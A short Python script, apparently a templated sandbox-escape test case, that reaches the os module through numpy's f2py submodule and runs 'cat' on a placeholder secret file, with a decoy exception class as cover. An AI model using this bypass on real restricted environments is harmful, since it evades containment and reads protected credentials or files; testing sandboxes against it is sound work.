"""An exception that is as useful as a function."""
import numpy as np
module = [np][0]
class Useful(Exception):
    def __call__(self, owner, name):
        return getattr(owner, name)
try:
    raise Useful
except Useful as _getattr_:
    print(module.f2py.os.popen("cat @SECRET_FILE@").read())
